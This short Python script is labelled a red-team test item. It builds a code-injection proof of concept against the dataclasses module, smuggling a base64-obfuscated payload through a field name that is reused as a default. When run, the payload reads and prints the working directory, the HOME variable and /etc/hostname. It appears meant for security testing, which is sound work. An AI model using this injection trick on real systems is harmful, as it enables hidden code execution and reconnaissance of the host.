# family: red team, round 53a (under postponed annotations the string "KW_ONLY" is recognised by dataclasses: field() stays)
from __future__ import annotations

import base64
from dataclasses import KW_ONLY, dataclass, field

CODE = "eSxwcmludChfX2ltcG9ydF9fKCdvcycpLmdldGN3ZCgpLF9faW1wb3J0X18oJ29zJykuZW52aXJvblsnSE9NRSddLG9wZW4oJy9ldGMvaG9zdG5hbWUnKS5yZWFkKCksX19pbXBvcnRfXygnb3MnKSk="


@dataclass
class A:
    x: int = 0
    rest: KW_ONLY = field(default=0)


def main():
    kept = A(1).rest

    @dataclass
    class B:
        y: int = kept

    kept.name = base64.b64decode(CODE).decode()

    @dataclass(init=False, repr=False)
    class C(B):
        pass

    print(C() == C())


main()
